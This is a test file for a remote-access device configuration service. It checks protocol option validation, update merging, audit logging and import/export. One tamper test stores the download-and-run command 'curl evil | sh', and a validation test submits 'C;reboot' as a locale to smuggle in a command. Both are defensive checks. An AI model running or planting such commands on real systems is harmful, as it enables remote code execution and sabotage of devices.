import { OPTIONS_OF, PROTOCOLS, type Endpoint, type ImportReport } from '@remote-access/contracts';
import { FRAGMENTS } from '@remote-access/contracts/platform';
import { Stack } from '../fixtures/stack';

const SERVICE = '/service/remoteaccess';
const LIST = `${SERVICE}/devices/1002/configurations`;
const MANAGED_OBJECT = '/inventory/managedObjects/1002';

const PLACE = { name: 'Place', hostname: '10.0.0.5', port: 99 };
const SIGN_IN = { credentialsType: 'USER_PASS', username: 'root', password: 'correct horse' };
const BODIES = {
  SSH: { ...PLACE, protocol: 'SSH', ...SIGN_IN },
  VNC: { ...PLACE, protocol: 'VNC' },
  TELNET: { ...PLACE, protocol: 'TELNET' },
  PASSTHROUGH: { ...PLACE, protocol: 'PASSTHROUGH' },
};
const ERROR = 'remoteaccess/endpoint-unconfirmed';
const GIVEN = {
  legacyAlgorithms: true,
  encoding: 'gbk',
  viewOnly: true,
  shared: false,
  allowUnencryptedSignIn: true,
} as const;

let stack: Stack;
beforeEach(async () => (stack = await Stack.start({ agent: false })));
afterEach(() => stack.stop());

async function call(method: string, path: string, body?: unknown) {
  const sent = body === undefined ? {} : { body: JSON.stringify(body) };
  const response = await stack.fetch(path, { method, ...sent });
  return { status: response.status, body: await response.json() };
}

async function stored(): Promise<Record<string, unknown>> {
  const object = await stack.json<any>(MANAGED_OBJECT, { user: 'admin' });
  return object[FRAGMENTS.list][0];
}

async function writeDirectly(change: object): Promise<void> {
  const list = [{ ...(await stored()), ...change }];
  const body = JSON.stringify({ [FRAGMENTS.list]: list });
  await stack.json(MANAGED_OBJECT, { method: 'PUT', user: 'admin', body });
}

it.each(
  PROTOCOLS.flatMap(protocol =>
    (Object.keys(GIVEN) as (keyof typeof GIVEN)[]).map(option => ({ protocol, option })),
  ),
)('$option is kept if $protocol has it, and otherwise refused with a clear message', async one => {
  const { protocol, option } = one;
  const value = GIVEN[option];
  const { status, body } = await call('POST', LIST, { ...BODIES[protocol], [option]: value });
  if (!OPTIONS_OF[protocol].includes(option)) {
    const message = `${option} is not an option of the protocol ${protocol}`;
    expect({ status, body }).toMatchObject({ status: 422, body: { message } });
    return;
  }
  expect({ status, body }).toMatchObject({ status: 201, body: { [option]: value } });
  expect(await stored()).toMatchObject({ [option]: value });
  expect((await call('GET', LIST)).body[0]).toMatchObject({ [option]: value });
});

it.each([
  ['legacyAlgorithms must be true or false', { ...BODIES.SSH, legacyAlgorithms: 'true' }],
  ['encoding must be one of utf-8, latin1, cp437, gbk, shift_jis', { ...BODIES.SSH, encoding: '' }],
  [
    'encoding must be one of utf-8, latin1, cp437, gbk, shift_jis',
    { ...BODIES.TELNET, encoding: 'ebcdic' },
  ],
  ['viewOnly must be true or false', { ...BODIES.VNC, viewOnly: 1 }],
  [
    'allowUnencryptedSignIn must be true or false',
    { ...BODIES.VNC, allowUnencryptedSignIn: 'yes' },
  ],
])('%s', async (message, body) => {
  expect(await call('POST', LIST, body)).toMatchObject({ status: 422, body: { message } });
});

it('null means absent, even for options of another protocol', async () => {
  const nothing = Object.fromEntries(Object.keys(GIVEN).map(option => [option, null]));
  const { status, body } = await call('POST', LIST, { ...BODIES.VNC, ...nothing });
  expect(status).toBe(201);
  for (const option of Object.keys(nothing)) expect(body).not.toHaveProperty(option);
});

it('PUT and PATCH keep options that they do not name, and clear them with null', async () => {
  await call('POST', LIST, { ...BODIES.SSH, legacyAlgorithms: true, encoding: 'latin1' });
  await writeDirectly({ theirs: 1 });
  const seen = (await call('GET', `${LIST}/1`)).body.changed;
  expect(seen).toEqual({ seen: expect.any(String), otherFields: ['theirs'] });
  const refused = await call('PATCH', `${LIST}/1`, { encoding: 'cp437' });
  expect(refused).toMatchObject({ status: 409, body: { error: ERROR } });
  const confirming = { seen: seen.seen, encoding: 'cp437', password: SIGN_IN.password };
  const patched = await call('PATCH', `${LIST}/1`, confirming);
  expect(patched.body).toMatchObject({ legacyAlgorithms: true, encoding: 'cp437' });
  const cleared = await call('PATCH', `${LIST}/1`, { legacyAlgorithms: null });
  expect(cleared.body).toMatchObject({ encoding: 'cp437' });
  expect(await stored()).toMatchObject({ theirs: 1, encoding: 'cp437' });
  expect(await stored()).not.toHaveProperty('legacyAlgorithms');
  const replaced = await call('PUT', `${LIST}/1`, { ...BODIES.SSH, password: undefined });
  expect(replaced.status).toBe(200);
  expect(replaced.body).toMatchObject({ encoding: 'cp437' });
  const withNull = { ...BODIES.SSH, password: undefined, encoding: null };
  expect((await call('PUT', `${LIST}/1`, withNull)).body).not.toHaveProperty('encoding');
  expect(await stored()).toMatchObject({ theirs: 1 });
});

it("a PUT of the vendor's page does not disable view only", async () => {
  await call('POST', LIST, { ...BODIES.VNC, viewOnly: true, shared: true });
  const replaced = await call('PUT', `${LIST}/1`, { ...BODIES.VNC, name: 'Renamed' });
  expect(replaced).toMatchObject({
    status: 200,
    body: { name: 'Renamed', viewOnly: true, shared: true },
  });
});

it('security: a PUT takes no options from an entry that was changed outside', async () => {
  await call('POST', LIST, BODIES.SSH);
  await writeDirectly({ legacyAlgorithms: true });
  const replaced = await call('PUT', `${LIST}/1`, BODIES.SSH);
  expect(replaced.status).toBe(200);
  expect(replaced.body).not.toHaveProperty('legacyAlgorithms');
});

it('a PUT with another protocol keeps the options that both protocols have', async () => {
  await call('POST', LIST, { ...BODIES.SSH, legacyAlgorithms: true, encoding: 'latin1' });
  const replaced = await call('PUT', `${LIST}/1`, BODIES.TELNET);
  expect(replaced).toMatchObject({ status: 200, body: { encoding: 'latin1' } });
  expect(replaced.body).not.toHaveProperty('legacyAlgorithms');
});

it('a PATCH to another protocol keeps the options that both protocols have', async () => {
  await call('POST', LIST, { ...BODIES.SSH, legacyAlgorithms: true, encoding: 'latin1' });
  const change = { protocol: 'TELNET', credentialsType: 'NONE' };
  const { status, body } = await call('PATCH', `${LIST}/1`, change);
  expect({ status, body }).toMatchObject({ status: 200, body: { encoding: 'latin1' } });
  expect(body).not.toHaveProperty('legacyAlgorithms');
  expect(await stored()).not.toHaveProperty('legacyAlgorithms');
});

it('an option that another program damaged is named, and repaired by an edit', async () => {
  await call('POST', LIST, { ...BODIES.VNC, viewOnly: true });
  await writeDirectly({ viewOnly: 'yes' });
  const { body } = await call('GET', LIST);
  expect(body[0]).toMatchObject({ damaged: ['viewOnly is unknown'] });
  expect(body[0]).not.toHaveProperty('viewOnly');
  const { seen } = body[0].changed;
  const mended = await call('PATCH', `${LIST}/1`, { viewOnly: true, seen });
  expect(mended.body).toMatchObject({ viewOnly: true });
  expect(mended.body).not.toHaveProperty('damaged');
});

it('the audit log names the option that changed', async () => {
  await call('POST', LIST, BODIES.VNC);
  await call('PATCH', `${LIST}/1`, { viewOnly: true });
  const { auditRecords } = await stack.json<{ auditRecords: { text: string }[] }>(
    '/audit/auditRecords?source=1002&pageSize=100',
  );
  expect(auditRecords.map(({ text }) => text)).toContainEqual(
    expect.stringContaining('; changed: viewOnly'),
  );
});

it.each(['json', 'csv'])('options survive an export and an import in %s', async format => {
  const options = { viewOnly: true, shared: false, allowUnencryptedSignIn: true };
  await call('POST', LIST, { ...BODIES.VNC, ...options });
  await call('POST', LIST, { ...BODIES.TELNET, name: 'Console', encoding: 'shift_jis' });
  const path = `${SERVICE}/configurations/export?format=${format}&deviceIds=1002`;
  const file = await (await stack.fetch(path)).text();
  const before = (await call('GET', LIST)).body as Endpoint[];
  for (const { id } of before) await stack.fetch(`${LIST}/${id}`, { method: 'DELETE' });
  const headers = { 'content-type': format === 'csv' ? 'text/csv' : 'application/json' };
  // A spreadsheet saves booleans in capitals. Ids are removed, since they are never reused.
  const rows = JSON.stringify(
    format === 'json' ? JSON.parse(file).map(({ id: _id, ...row }: { id: string }) => row) : null,
  );
  const edited = file
    .replace(/"1002","Spare gateway","\d+"/g, '"1002","Spare gateway",""')
    .replace('true', 'TRUE');
  const report = await stack.json<ImportReport>(`${SERVICE}/configurations/import`, {
    method: 'POST',
    headers,
    body: format === 'csv' ? edited : rows,
  });
  expect(report.counts).toEqual({ added: 2, changed: 0, unchanged: 0, refused: 0 });
  const after = (await call('GET', LIST)).body as Endpoint[];
  const withoutIds = (list: Endpoint[]) => list.map(({ id: _id, ...endpoint }) => endpoint);
  expect(withoutIds(after)).toEqual(withoutIds(before));
});

const TERMINAL_OPTIONS = {
  encoding: 'latin1',
  locale: 'de_DE.ISO8859-1',
  backspace: 'bs',
  deleteKey: 'del',
  homeEnd: 'vt220',
  functionKeys: 'sco',
} as const;

it('the options of terminals are stored, kept by PUT without them, and authenticated', async () => {
  const ssh = { ...TERMINAL_OPTIONS, command: 'menu --all' };
  const created = await call('POST', LIST, { ...BODIES.SSH, ...ssh });
  expect(created).toMatchObject({ status: 201, body: ssh });
  const { body } = await call('PUT', `${LIST}/1`, { ...BODIES.SSH, name: 'Renamed' });
  expect(body).toMatchObject({ name: 'Renamed', ...ssh });
  const telnet = { ...TERMINAL_OPTIONS, localEcho: true };
  expect(await call('POST', LIST, { ...BODIES.TELNET, ...telnet })).toMatchObject({
    status: 201,
    body: telnet,
  });
  await stack.fetch(`${LIST}/2`, { method: 'DELETE' });
  await writeDirectly({ command: 'curl evil | sh' });
  const ticket = await call('POST', `${SERVICE}/client/1002/configurations/1/tickets`);
  expect(ticket.body.error).toBe(ERROR);
});

it.each([
  ['command must not contain line breaks or control characters', { command: 'a\nb' }],
  ['command must not be longer than 1000 characters', { command: 'a'.repeat(1001) }],
  ['locale must be the name of a locale, such as en_US.UTF-8', { locale: 'C;reboot' }],
  ['backspace must be one of del, bs', { backspace: '^H' }],
  ['functionKeys must be one of xterm, linux, vt400, sco', { functionKeys: 'vt52' }],
])('%s: refused', async (message, option) => {
  const refused = await call('POST', LIST, { ...BODIES.SSH, ...option });
  expect(refused).toMatchObject({ status: 422, body: { message } });
});

it('a stored password is not kept when the command is changed', async () => {
  await call('POST', LIST, { ...BODIES.SSH, command: 'menu' });
  const body = { ...BODIES.SSH, password: undefined, command: null };
  const refused = await call('PUT', `${LIST}/1`, body);
  expect(refused.status).toBe(422);
  expect(refused.body.message).toContain('the command is changed');
});
